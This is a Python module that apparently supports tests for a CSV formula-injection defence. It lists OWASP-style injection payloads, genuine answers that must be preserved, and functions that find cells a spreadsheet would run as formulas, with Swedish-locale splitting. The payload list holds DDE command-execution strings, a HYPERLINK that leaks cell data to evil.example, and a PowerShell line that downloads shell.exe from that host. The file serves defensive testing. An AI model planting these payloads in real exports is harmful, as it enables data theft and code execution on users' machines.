"""Formula injection (OWASP "CSV Injection"): the payloads, the genuine answers the rule
must keep, and what a spreadsheet would run of a file."""

from __future__ import annotations

import csv
import io
import re

#: OWASP's payloads and their DDE variants, and the ways a cell can begin inside a field
#: for a spreadsheet that splits on ";" (Excel in Swedish), on tabs or at line breaks.
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "=1+1;=2",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "=cmd|' /C powershell IEX(wget evil.example/shell.exe)'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "Bra kurs;=HYPERLINK(\"http://evil.example\")",
    "Bra kurs,=1+1",
    "Bra kurs\t@SUM(1)",
    "Första raden\n-2+3+cmd|' /C calc'!A0",
)
#: Genuine answers the rule must keep exactly: apostrophes of the writer's own, and text
#: that only looks like a number.
GENUINE = ("'=1+1", "''+1", "'hej", "'", "-1", "-", "=", "rad;'@ett", "ja, -nej")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def cell_starts(text: str) -> list[str]:
    """Every cell a spreadsheet may make of a file: the CSV's fields, and the pieces of
    each line split on ";" and tabs as Excel in a Swedish locale splits them."""
    fields = [field for row in csv.reader(io.StringIO(text, newline="")) for field in row]
    pieces = [piece for line in text.splitlines() for piece in re.split("[;\t]", line)]
    inner = [piece for field in fields for piece in re.split("[,;\t\r\n]", field)[1:]]
    return [*fields, *pieces, *inner]


def runnable(text: str) -> list[str]:
    """The cells a spreadsheet would take for a formula."""
    return [cell for cell in cell_starts(text)
            if cell.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(cell)]
